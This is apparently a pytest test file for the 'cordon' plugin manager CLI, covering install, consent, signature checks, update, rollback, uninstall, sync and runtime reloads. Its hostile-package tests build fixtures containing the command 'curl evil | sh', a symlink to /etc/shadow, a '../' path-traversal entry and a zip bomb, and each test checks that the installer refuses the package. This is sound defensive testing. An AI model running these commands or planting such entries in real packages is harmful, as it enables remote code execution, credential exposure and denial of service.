"""The package commands through the real ``cordon`` CLI, real ``uv`` and wheelhouses the tests
build: install from a folder and a ``.cordon`` file, consent, every refusal (exit code, one
line naming what was wrong, nothing left under the state dir), update, rollback, uninstall,
sync to another state dir, and installed plugins run by the runtime. (Downloads and
interrupted installs: test_install.py.)"""

from __future__ import annotations

import json
import os
import pty
import stat
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

from cordon.runtime._hostapi._storage import Storage
from cordon.runtime._packages._archive import FILES_NAME
from cordon.runtime._packages._store import installed, previous
from tests.packages.archives import (
    RawEntry,
    base_files,
    files_listing,
    raw_zip,
    write_package,
    zeros_bomb,
)
from tests.packages.archives import stored as stored_entry
from tests.packages.installing import (
    CLI_TIMEOUT,
    CORDON,
    Room,
    assert_nothing_placed,
    leftovers,
    make_room,
    one_line_error,
    plugin_folder,
)
from tests.packages.installing import pack_plugin as pack
from tests.packages.wheelhouse import sdist_marker


@pytest.fixture
def room(tmp_path: Path) -> Room:
    return make_room(tmp_path)


# -- installing ------------------------------------------------------------------------------


def test_installing_a_folder_places_the_version_its_env_and_a_record(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha", dependencies=("cordonhelper==1.0",))
    proc = room.cordon("plugin", "install", str(folder), "--yes")
    assert proc.returncode == 0, proc.stderr
    assert "install alpha 1.0.0" in proc.stdout and "permissions  log" in proc.stdout
    rec = installed(room.state, "alpha")
    assert rec is not None and rec.version == "1.0.0" and rec.source == str(folder)
    assert rec.requested == ("log",) and rec.signer is None and len(rec.sha256) == 64
    assert Path(rec.plugin_dir) == (room.state / "plugins/alpha/1.0.0").resolve()
    assert (Path(rec.plugin_dir) / "alpha_main.py").is_file()
    # The lock's transitive pin is in the env: cordonhelper pulled cordonlib 2.0.
    assert rec.site_packages is not None
    site = Path(rec.site_packages)
    assert (site / "cordonhelper.py").is_file() and 'VERSION = "2.0"' in (
        site / "cordonlib.py"
    ).read_text()
    staging = room.state / "plugins" / ".staging"
    assert list(staging.iterdir()) == []


def test_installing_a_packed_file_records_its_sha256_and_path(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha", dependencies=("cordonlib==1.0",))
    package = pack(room, folder)
    assert (folder / "plugin.lock").is_file()  # pack locked first: dependencies, no lock
    # The wheels are not in the package: the env comes from the index options (here the
    # wheelhouse), checked against the package's lock.
    proc = room.cordon("plugin", "install", str(package), "--yes")
    assert proc.returncode == 0, proc.stderr
    rec = installed(room.state, "alpha")
    assert rec is not None and rec.source == str(package)
    import hashlib

    assert rec.sha256 == hashlib.sha256(package.read_bytes()).hexdigest()


def test_no_plugin_code_runs_during_install(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha")
    marker = room.root / "imported"
    main = folder / "alpha_main.py"
    main.write_text(f"open({str(marker)!r}, 'w').close()\n" + main.read_text())
    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    assert installed(room.state, "alpha") is not None
    assert not marker.exists()


def test_without_a_terminal_or_yes_install_is_refused_and_places_nothing(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha", permissions=("log", "storage"))
    proc = room.cordon("plugin", "install", str(folder))
    one_line_error(proc, 27, "ConsentRefused", "log, storage", "--yes")
    assert_nothing_placed(room)


def _install_on_a_terminal(room: Room, folder: Path, answer: bytes) -> tuple[int, str]:
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen(
            [CORDON, "plugin", "install", str(folder), "--config", str(room.config)],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=room.root,
        )
        os.write(master, answer)
        out, err = proc.communicate(timeout=CLI_TIMEOUT)
    finally:
        os.close(master)
        os.close(slave)
    return proc.returncode, out.decode() + err.decode()


def test_on_a_terminal_install_asks_and_only_a_typed_yes_installs(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha", permissions=("log", "storage"))
    code, out = _install_on_a_terminal(room, folder, b"n\n")
    assert code == 27 and "requests log, storage. Install? [y/N]" in out, out
    assert_nothing_placed(room)
    code, out = _install_on_a_terminal(room, folder, b"y\n")
    assert code == 0, out
    assert installed(room.state, "alpha") is not None


# -- refusals: each one exit code, one line, nothing left -------------------------------------


def _tampered(path: Path) -> Path:
    files = base_files()
    listing = files_listing(files)
    files["greeter.py"] += b"import os; os.system('curl evil | sh')\n"
    return write_package(path, files, listing=listing)


def _dotdot(path: Path) -> Path:
    return write_package(path, base_files() | {"../evil.py": b"x = 1\n"})


def _symlink(path: Path) -> Path:
    files = base_files()
    info = zipfile.ZipInfo("data/link", (1980, 1, 1, 0, 0, 0))
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return write_package(path, files, extra=[(info, b"/etc/shadow")])


def _bomb(path: Path) -> Path:
    bomb, crc = zeros_bomb(1024)
    entries = [stored_entry(n.encode(), d) for n, d in sorted(base_files().items())]
    entries.append(RawEntry(b"zeros.bin", bomb, crc, 1024, method=zipfile.ZIP_DEFLATED))
    body = json.loads(files_listing(base_files()))
    body.append({"mode": 0o644, "path": "zeros.bin", "sha256": "0" * 64, "size": 1024})
    entries.append(stored_entry(FILES_NAME.encode(), json.dumps(body).encode()))
    return raw_zip(path, entries)


@pytest.mark.parametrize(
    ("build", "needle"),
    [
        (_tampered, "'greeter.py'"),
        (_dotdot, "'../evil.py'"),
        (_symlink, "'data/link'"),
        (_bomb, "'zeros.bin'"),
    ],
    ids=["hash-mismatch", "dotdot-entry", "symlink-entry", "zip-bomb"],
)
def test_a_hostile_package_is_refused_naming_its_entry_and_nothing_is_left(
    room: Room, build: Callable[[Path], Path], needle: str
) -> None:
    package = build(room.root / "greeter-1.2.0.cordon")
    proc = room.cordon("plugin", "install", str(package), "--yes", index=False)
    one_line_error(proc, 22, "PackageInvalid", needle)
    assert_nothing_placed(room)


def _keyed(room: Room, name: str) -> tuple[Path, str]:
    proc = room.cordon("key", "new", str(room.root / name), index=False)
    assert proc.returncode == 0, proc.stderr
    return room.root / name, proc.stdout.splitlines()[0]


def test_an_unsigned_package_is_refused_when_signatures_are_required(room: Room) -> None:
    _, public = _keyed(room, "pub.key")
    strict = room.config_with(
        "strict.toml", runtime={"require-signatures": "true", "trusted-keys": f'["{public}"]'}
    )
    package = pack(room, plugin_folder(room.root, "alpha"))
    proc = room.cordon("plugin", "install", str(package), "--yes", config=strict, index=False)
    one_line_error(proc, 23, "SignatureInvalid", "not signed", "require-signatures")
    assert_nothing_placed(room)


def test_a_package_signed_by_an_untrusted_key_is_refused_naming_that_key(room: Room) -> None:
    _, trusted = _keyed(room, "trusted.key")
    other, other_public = _keyed(room, "other.key")
    strict = room.config_with(
        "strict.toml", runtime={"require-signatures": "true", "trusted-keys": f'["{trusted}"]'}
    )
    package = pack(room, plugin_folder(room.root, "alpha"), "--sign", str(other))
    proc = room.cordon("plugin", "install", str(package), "--yes", config=strict, index=False)
    one_line_error(proc, 23, "SignatureInvalid", other_public, "trusted-keys")
    assert_nothing_placed(room)
    # Control: the same package signed by the trusted key installs.
    signed = pack(room, plugin_folder(room.root, "beta"), "--sign", str(room.root / "trusted.key"))
    proc = room.cordon("plugin", "install", str(signed), "--yes", config=strict, index=False)
    assert proc.returncode == 0, proc.stderr
    rec = installed(room.state, "beta")
    assert rec is not None and rec.signer == trusted


def test_a_dependency_with_only_an_sdist_is_refused_naming_it_and_never_built(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha", dependencies=("cordonsrc",))
    proc = room.cordon("plugin", "install", str(folder), "--yes")
    one_line_error(proc, 24, "SdistOnly", "cordonsrc")
    assert_nothing_placed(room)
    assert not sdist_marker(room.wheelhouse, "cordonsrc").exists()
    assert not (folder / "plugin.lock").exists()


def test_a_lock_made_for_other_dependencies_is_refused_naming_both(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha", dependencies=("cordonlib==1.0",))
    assert room.cordon("plugin", "lock", str(folder)).returncode == 0
    toml = folder / "plugin.toml"
    toml.write_text(toml.read_text().replace("cordonlib==1.0", "cordonlib==2.0"))
    proc = room.cordon("plugin", "install", str(folder), "--yes")
    one_line_error(proc, 24, "LockError", "cordonlib==1.0", "cordonlib==2.0", "lock again")
    assert_nothing_placed(room)


# -- update, rollback, uninstall ---------------------------------------------------------------


def test_an_update_with_a_new_permission_asks_again_and_keeps_the_old_for_rollback(
    room: Room,
) -> None:
    v1 = plugin_folder(room.root, "alpha", "1.0.0", dependencies=("cordonlib==1.0",))
    assert room.cordon("plugin", "install", str(v1), "--yes").returncode == 0
    v2 = plugin_folder(
        room.root, "alpha", "2.0.0", dependencies=("cordonlib==2.0",), permissions=("storage",)
    )
    proc = room.cordon("plugin", "update", "alpha", str(v2))
    one_line_error(proc, 27, "ConsentRefused", "storage")
    assert "update alpha 1.0.0 -> 2.0.0 (breaking)" in proc.stdout
    assert "+ permission storage (new)" in proc.stdout
    assert "- permission log (dropped)" in proc.stdout
    cur = installed(room.state, "alpha")
    assert cur is not None and cur.version == "1.0.0" and cur.env_key is not None
    first_env = room.state / "envs" / cur.env_key
    assert not [p for p in leftovers(room.state) if "2.0.0" in p]
    assert [p.name for p in (room.state / "envs").iterdir() if not p.name.endswith("lock")] == [
        cur.env_key
    ]

    proc = room.cordon("plugin", "update", "alpha", str(v2), "--yes")
    assert proc.returncode == 0, proc.stderr
    cur, prev = installed(room.state, "alpha"), previous(room.state, "alpha")
    assert cur is not None and cur.version == "2.0.0" and cur.requested == ("storage",)
    assert prev is not None and prev.version == "1.0.0"
    assert cur.env_key != prev.env_key
    assert prev.env_key is not None and (room.state / "envs" / prev.env_key).is_dir()

    # A compatible update adding nothing does not ask.
    v21 = plugin_folder(
        room.root, "alpha", "2.1.0", dependencies=("cordonlib==2.0",), permissions=("storage",)
    )
    proc = room.cordon("plugin", "update", "alpha", str(v21))
    assert proc.returncode == 0, proc.stderr
    assert "(compatible)" in proc.stdout and "permissions  unchanged" in proc.stdout
    prev = previous(room.state, "alpha")
    assert prev is not None and prev.version == "2.0.0"
    # 1.0.0 is neither current nor previous now: its dir and its env are gone.
    assert not (room.state / "plugins/alpha/1.0.0").exists()
    assert not first_env.exists()


def test_the_same_version_with_other_content_is_refused_and_the_installed_one_kept(
    room: Room,
) -> None:
    folder = plugin_folder(room.root, "alpha")
    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    before = installed(room.state, "alpha")
    assert before is not None
    main = folder / "alpha_main.py"
    main.write_text(main.read_text() + "# changed, same version\n")
    proc = room.cordon("plugin", "install", str(folder), "--yes")
    one_line_error(proc, 22, "PackageInvalid", "already installed with other content")
    after = installed(room.state, "alpha")
    assert after is not None and after.sha256 == before.sha256
    assert "changed" not in (Path(after.plugin_dir) / "alpha_main.py").read_text()
    assert list((room.state / "plugins" / ".staging").iterdir()) == []


def test_rollback_returns_to_the_previous_version_and_a_second_rollback_undoes_it(
    room: Room,
) -> None:
    for version in ("1.0.0", "1.1.0"):
        folder = plugin_folder(room.root, "alpha", version)
        assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    proc = room.cordon("plugin", "rollback", "alpha", index=False)
    assert proc.returncode == 0 and "rolled back alpha to 1.0.0" in proc.stdout, proc.stderr
    cur, prev = installed(room.state, "alpha"), previous(room.state, "alpha")
    assert cur is not None and cur.version == "1.0.0"
    assert prev is not None and prev.version == "1.1.0"
    assert room.cordon("plugin", "rollback", "alpha", index=False).returncode == 0
    cur = installed(room.state, "alpha")
    assert cur is not None and cur.version == "1.1.0"


def test_rollback_with_nothing_to_return_to_is_refused(room: Room) -> None:
    assert room.cordon("plugin", "install", str(plugin_folder(room.root, "alpha")), "--yes")
    proc = room.cordon("plugin", "rollback", "alpha", index=False)
    one_line_error(proc, 26, "NotInstalled", "no previous version")
    proc = room.cordon("plugin", "rollback", "ghost", index=False)
    one_line_error(proc, 26, "NotInstalled", "ghost")


def _store(room: Room, plugin_id: str, key: str) -> None:
    async def go() -> None:
        async with await Storage.open(room.state / "storage.db") as storage:
            await storage.set(plugin_id, key, "kept")

    anyio.run(go)


def _stored(room: Room, plugin_id: str) -> list[str]:
    async def go() -> list[str]:
        async with await Storage.open(room.state / "storage.db") as storage:
            return list(await storage.list(plugin_id))

    return anyio.run(go)


def test_uninstall_removes_the_plugin_and_an_env_only_it_used(room: Room) -> None:
    deps = ("cordonlib==1.0",)
    for pid in ("alpha", "beta"):
        folder = plugin_folder(room.root, pid, dependencies=deps)
        assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    alpha, beta = installed(room.state, "alpha"), installed(room.state, "beta")
    assert alpha is not None and beta is not None and alpha.env_key == beta.env_key
    _store(room, "alpha", "k")
    proc = room.cordon("plugin", "uninstall", "alpha", "--yes", index=False)
    assert proc.returncode == 0, proc.stderr
    assert installed(room.state, "alpha") is None
    assert not (room.state / "plugins" / "alpha").exists()
    assert (room.state / "envs" / str(beta.env_key)).is_dir()  # beta still uses it
    assert _stored(room, "alpha") == ["k"]  # storage kept without --purge

    proc = room.cordon("plugin", "uninstall", "beta", index=False)
    one_line_error(proc, 27, "ConsentRefused", "--yes")
    assert installed(room.state, "beta") is not None
    _store(room, "beta", "k")
    proc = room.cordon("plugin", "uninstall", "beta", "--purge", "--yes", index=False)
    assert proc.returncode == 0 and "storage purged" in proc.stdout, proc.stderr
    assert _stored(room, "beta") == [] and _stored(room, "alpha") == ["k"]
    assert leftovers(room.state) == []
    proc = room.cordon("plugin", "uninstall", "beta", "--yes", index=False)
    one_line_error(proc, 26, "NotInstalled", "beta")


def test_an_unreadable_record_of_another_plugin_stops_the_prune_not_the_install(
    room: Room,
) -> None:
    beta = plugin_folder(room.root, "beta", dependencies=("cordonlib==2.0",))
    assert room.cordon("plugin", "install", str(beta), "--yes").returncode == 0
    rec = installed(room.state, "beta")
    assert rec is not None and rec.env_key is not None
    (room.state / "plugins" / "beta" / "1.0.0.json").write_text("{not json")
    for version in ("1.0.0", "2.0.0"):  # the update tidies and prunes
        folder = plugin_folder(room.root, "alpha", version)
        proc = room.cordon("plugin", "install", str(folder), "--yes")
        assert proc.returncode == 0, proc.stderr
    assert (room.state / "envs" / rec.env_key).is_dir()


# -- sync -------------------------------------------------------------------------------------


def test_sync_reproduces_the_installed_plugins_in_another_state_dir(room: Room) -> None:
    package = pack(room, plugin_folder(room.root, "alpha", dependencies=("cordonlib==1.0",)))
    assert room.cordon("plugin", "install", str(package), "--yes").returncode == 0
    folder = plugin_folder(room.root, "beta", dependencies=("cordonlib==2.0",))
    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    lockfile = room.root / "plugins.lock"
    proc = room.cordon("plugin", "sync", "--write", str(lockfile), index=False)
    assert proc.returncode == 0, proc.stderr
    pinned = json.loads(lockfile.read_text())
    assert [p["id"] for p in pinned["plugins"]] == ["alpha", "beta"]

    other_state = room.root / "other-state"
    other = room.config_with("other.toml", state=other_state)
    proc = room.cordon("plugin", "sync", str(lockfile), "--yes", config=other)
    assert proc.returncode == 0, proc.stderr
    for pid in ("alpha", "beta"):
        here, there = installed(room.state, pid), installed(other_state, pid)
        assert here is not None and there is not None
        assert (there.version, there.sha256, there.env_key) == (
            here.version,
            here.sha256,
            here.env_key,
        )
    # Applying it again changes nothing; a plugin the file does not name is left alone, noted.
    extra = plugin_folder(room.root, "gamma")
    assert room.cordon("plugin", "install", str(extra), "--yes", config=other).returncode == 0
    proc = room.cordon("plugin", "sync", str(lockfile), config=other)
    assert proc.returncode == 0, proc.stderr
    assert "note: gamma 1.0.0 is installed but not in" in proc.stdout
    assert installed(other_state, "gamma") is not None


def test_sync_refuses_a_source_that_no_longer_has_the_pinned_bytes(room: Room) -> None:
    folder = plugin_folder(room.root, "alpha")
    assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    lockfile = room.root / "plugins.lock"
    assert room.cordon("plugin", "sync", "--write", str(lockfile), index=False).returncode == 0
    (folder / "alpha_main.py").write_text("plugin = None  # swapped\n")
    other_state = room.root / "other-state"
    other = room.config_with("other.toml", state=other_state)
    proc = room.cordon("plugin", "sync", str(lockfile), "--yes", config=other)
    one_line_error(proc, 22, "PackageInvalid", "the sync file pins")
    assert leftovers(other_state) == []


# -- with the runtime: installed plugins run, and a running host follows updates ---------------


def _call(room: Room, plugin_id: str) -> dict[str, str]:
    proc = room.cordon("call", plugin_id, "which", index=False)
    assert proc.returncode == 0, proc.stderr
    result: dict[str, str] = json.loads(proc.stdout)
    return result


def test_two_installed_plugins_needing_cordonlib_1_and_2_each_import_their_own(
    room: Room,
) -> None:
    for pid, lib in (("alpha", "1.0"), ("beta", "2.0")):
        folder = plugin_folder(room.root, pid, dependencies=(f"cordonlib=={lib}",))
        assert room.cordon("plugin", "install", str(folder), "--yes").returncode == 0
    assert _call(room, "alpha") == {"cordonlib": "1.0", "self": "1.0.0"}
    assert _call(room, "beta") == {"cordonlib": "2.0", "self": "1.0.0"}


@pytest.mark.anyio
async def test_after_update_and_rollback_a_running_host_answers_with_the_version_installed(
    room: Room,
) -> None:
    from tests.test_control import Setup, running_host

    v1 = plugin_folder(room.root, "alpha", "1.0.0", dependencies=("cordonlib==1.0",))
    assert room.cordon("plugin", "install", str(v1), "--yes").returncode == 0
    v2 = plugin_folder(room.root, "alpha", "1.1.0", dependencies=("cordonlib==2.0",))
    s = Setup(room.root, room.config, room.state, v1)
    call = {"plugin": "alpha", "name": "which", "arguments": {}}

    async def cli(*args: str) -> str:
        index = ("--find-links", str(room.wheelhouse), "--offline")
        with anyio.fail_after(CLI_TIMEOUT):
            proc = await anyio.run_process(
                [CORDON, *args, "--config", str(room.config), *index], cwd=room.root, check=False
            )
        assert proc.returncode == 0, proc.stderr.decode()
        return proc.stdout.decode()

    async with running_host(s):
        assert (await _answer(s.socket, call))["self"] == "1.0.0"
        out = await cli("plugin", "update", "alpha", str(v2), "--yes")
        assert "reloaded alpha in the running host" in out, out
        answer = await _answer(s.socket, call)
        assert answer == {"cordonlib": "2.0", "self": "1.1.0"}
        with anyio.fail_after(CLI_TIMEOUT):
            proc = await anyio.run_process(
                [CORDON, "plugin", "rollback", "alpha", "--config", str(room.config)],
                cwd=room.root,
                check=False,
            )
        assert proc.returncode == 0 and b"reloaded alpha" in proc.stdout, proc.stderr
        answer = await _answer(s.socket, call)
        assert answer == {"cordonlib": "1.0", "self": "1.0.0"}


def _descendants(pid: int) -> set[int]:
    """Every live process below ``pid`` (its workers, warm spares included), from /proc's
    parent links."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat_line = (entry / "stat").read_text()
        except OSError:
            continue  # gone meanwhile
        fields = stat_line[stat_line.rindex(")") + 2 :].split()
        if fields[0] != "Z":
            parents[int(entry.name)] = int(fields[1])
    found: set[int] = set()
    frontier = {pid}
    while frontier:
        frontier = {child for child, parent in parents.items() if parent in frontier} - found
        found |= frontier
    return found


async def _cli(room: Room, *args: str) -> subprocess.CompletedProcess[bytes]:
    index = ("--find-links", str(room.wheelhouse), "--offline") if args[1] != "uninstall" else ()
    with anyio.fail_after(CLI_TIMEOUT):
        return await anyio.run_process(
            [CORDON, *args, "--config", str(room.config), *index], cwd=room.root, check=False
        )


@pytest.mark.anyio
async def test_uninstall_unloads_the_plugin_from_a_running_host_first_and_stops_its_worker(
    room: Room,
) -> None:
    from tests.test_control import Setup, rpc, running_host

    v1 = plugin_folder(room.root, "alpha", "1.0.0", dependencies=("cordonlib==1.0",))
    assert room.cordon("plugin", "install", str(v1), "--yes").returncode == 0
    s = Setup(room.root, room.config, room.state, v1)
    call = {"plugin": "alpha", "name": "which", "arguments": {}}
    async with running_host(s) as host:
        assert (await _answer(s.socket, call))["self"] == "1.0.0"
        worker = (await rpc(s.socket, "stats"))["result"]["alpha"]["pid"]
        assert worker in _descendants(host.pid), "the control: alpha's worker runs"
        proc = await _cli(room, "plugin", "uninstall", "alpha", "--yes")
        assert proc.returncode == 0, proc.stderr.decode()
        assert b"unloaded alpha in the running host" in proc.stdout
        listed = (await rpc(s.socket, "plugins"))["result"]
        assert [p["id"] for p in listed] == []
        answer = await rpc(s.socket, "call", call)
        assert answer["error"]["data"]["type"] == "PluginUnavailable", answer
        assert worker not in _descendants(host.pid)
    assert installed(room.state, "alpha") is None


@pytest.mark.anyio
async def test_unload_over_the_control_socket_answers_typed_errors(room: Room) -> None:
    from tests.test_control import Setup, rpc, running_host

    v1 = plugin_folder(room.root, "alpha", "1.0.0")
    assert room.cordon("plugin", "install", str(v1), "--yes", index=False).returncode == 0
    s = Setup(room.root, room.config, room.state, v1)
    async with running_host(s):
        unknown = await rpc(s.socket, "unload", {"plugin": "nope"})
        assert unknown["error"]["data"]["type"] == "PluginUnavailable", unknown
        bad = await rpc(s.socket, "unload", {"plugin": 3})
        assert bad["error"]["code"] == -32602, bad
        assert (await rpc(s.socket, "unload", {"plugin": "alpha"}))["result"] == ["alpha"]
    assert installed(room.state, "alpha") is not None  # unload is not uninstall


@pytest.mark.anyio
async def test_an_update_never_deletes_the_version_dir_a_running_host_still_runs_from(
    room: Room,
) -> None:
    from tests.test_control import Setup, running_host

    v1 = plugin_folder(room.root, "alpha", "1.0.0", dependencies=("cordonlib==1.0",))
    assert room.cordon("plugin", "install", str(v1), "--yes").returncode == 0
    broken = plugin_folder(room.root, "alpha", "1.1.0")
    (broken / "alpha_main.py").write_text("raise RuntimeError('broken on import')\n")
    v2 = plugin_folder(room.root, "alpha", "1.2.0")
    s = Setup(room.root, room.config, room.state, v1)
    call = {"plugin": "alpha", "name": "which", "arguments": {}}
    v1_dir = room.state / "plugins" / "alpha" / "1.0.0"
    async with running_host(s):
        # 1.1.0 fails to start: the host keeps serving 1.0.0 (now ``previous``).
        proc = await _cli(room, "plugin", "update", "alpha", str(broken), "--yes")
        assert b"did not reload alpha" in proc.stdout, proc.stdout
        # 1.2.0 pushes 1.0.0 out of current/previous, but the host still runs from it.
        proc = await _cli(room, "plugin", "update", "alpha", str(v2), "--yes")
        assert proc.returncode == 0, proc.stderr.decode()
        assert v1_dir.is_dir()
        rec = installed(room.state, "alpha")
        prev = previous(room.state, "alpha")
        assert rec is not None and prev is not None
        assert (rec.version, prev.version) == ("1.2.0", "1.1.0")
        answer = await _answer(s.socket, call)
        assert answer == {"self": "1.2.0"}  # the reload after the update switched it
    # Once no host reports it, the next update sweeps it.
    v3 = plugin_folder(room.root, "alpha", "1.3.0")
    assert room.cordon("plugin", "install", str(v3), "--yes", index=False).returncode == 0
    assert not v1_dir.exists()


@pytest.mark.anyio
async def test_uninstall_refused_by_the_running_host_deletes_nothing(room: Room) -> None:
    from tests.test_control import Setup, rpc, running_host

    base = plugin_folder(room.root, "alpha", "1.0.0")
    user = plugin_folder(room.root, "beta", "1.0.0")
    with (user / "plugin.toml").open("a") as f:
        f.write('\n[plugin.requires]\nalpha = ">=1"\n')
    for folder in (base, user):
        done = room.cordon("plugin", "install", str(folder), "--yes", index=False)
        assert done.returncode == 0, done.stderr
    s = Setup(room.root, room.config, room.state, base)
    async with running_host(s):
        proc = await _cli(room, "plugin", "uninstall", "alpha", "--yes")
        err = proc.stderr.decode().strip()
        assert proc.returncode == 21, err  # the exit code table's PluginInUse
        assert err.startswith("cordon: PluginInUse: plugin 'alpha' is required by beta"), err
        ids = sorted(p["id"] for p in (await rpc(s.socket, "plugins"))["result"])
        assert ids == ["alpha", "beta"]
        answer = await rpc(s.socket, "call", {"plugin": "alpha", "name": "which"})
        assert answer["result"] == {"self": "1.0.0"}
    assert installed(room.state, "alpha") is not None


async def _answer(socket: Path, call: dict[str, Any]) -> Any:
    """The result of one control-socket call; a failure shows the whole reply."""
    from tests.test_control import rpc

    reply = await rpc(socket, "call", call)
    assert "result" in reply, reply
    return reply["result"]
